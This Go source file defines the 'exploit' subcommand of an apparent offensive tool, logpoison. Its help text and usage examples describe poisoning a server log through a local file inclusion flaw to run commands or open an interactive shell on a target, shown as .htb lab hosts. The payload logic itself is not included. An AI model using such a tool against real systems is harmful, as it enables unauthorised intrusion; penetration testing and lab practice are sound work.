package cmd

import (
	"context"
	"os"
	"os/signal"
	"syscall"

	"github.com/spf13/cobra"
	"github.com/spf13/viper"

	"github.com/logpoison-tool/internal/exploit"
	"github.com/logpoison-tool/internal/ui"
)

var exploitCmd = &cobra.Command{
	Use:   "exploit",
	Short: "Poison a readable log and execute commands through it",
	Long: `Find a log readable through the LFI parameter (or use the one given
with --log), plant the payload and execute a single command, or open an
interactive shell when no command is given. The log is re-poisoned before
every command.`,
	Example: `  # Scan for readable logs and open a shell
  logpoison exploit -u http://target.htb/index.php

  # Execute a single command
  logpoison exploit -u http://target.htb/index.php -c "ls -la"

  # Skip scanning and use a specific log
  logpoison exploit -u http://target.htb/index.php -l /var/log/nginx/access.log -c whoami

  # Custom parameter name, transcript saved as YAML
  logpoison exploit -u http://target.htb/index.php -p page -c id -o session.yaml`,
	Args: cobra.NoArgs,
	RunE: runExploit,
}

func init() {
	rootCmd.AddCommand(exploitCmd)

	exploitCmd.Flags().StringP("url", "u", "", "target URL (e.g. http://target.htb/index.php)")
	exploitCmd.Flags().StringP("param", "p", "language", "vulnerable parameter name")
	exploitCmd.Flags().StringP("command", "c", "", "single command to execute (default: interactive shell)")
	exploitCmd.Flags().StringP("log", "l", "", "log file path to use (skips scanning)")
	exploitCmd.Flags().Bool("rescan", false, "ignore cached scan results")
	exploitCmd.Flags().StringP("output", "o", "", "write a session transcript (.json, .md or YAML)")
	exploitCmd.MarkFlagRequired("url")

	viper.BindPFlag("exploit.url", exploitCmd.Flags().Lookup("url"))
	viper.BindPFlag("exploit.param", exploitCmd.Flags().Lookup("param"))
	viper.BindPFlag("exploit.command", exploitCmd.Flags().Lookup("command"))
	viper.BindPFlag("exploit.log", exploitCmd.Flags().Lookup("log"))
	viper.BindPFlag("exploit.rescan", exploitCmd.Flags().Lookup("rescan"))
	viper.BindPFlag("exploit.output", exploitCmd.Flags().Lookup("output"))
}

func runExploit(cmd *cobra.Command, args []string) error {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	opts := exploit.Options{
		Target:     viper.GetString("exploit.url"),
		Param:      viper.GetString("exploit.param"),
		Rescan:     viper.GetBool("exploit.rescan"),
		OutputPath: viper.GetString("exploit.output"),
	}

	return exploitTarget(ctx, ui.NewStd(viper.GetBool("no-color")), opts,
		viper.GetString("exploit.command"), viper.GetString("exploit.log"))
}

// exploitTarget runs one session and maps its outcome to the exit status:
// an interrupted attack is not an error, a target with nothing to exploit is
// ErrNotExploited
func exploitTarget(ctx context.Context, console *ui.Console, opts exploit.Options, command, logPath string) error {
	session, err := newSession(console, opts)
	if err != nil {
		return err
	}
	defer session.Close()

	ok, err := session.Run(ctx, command, logPath)
	if err != nil {
		return err
	}

	if !ok {
		if ctx.Err() != nil {
			console.Newline()
			console.Warn("Attack interrupted by user")
			return nil
		}
		return ErrNotExploited
	}

	return nil
}
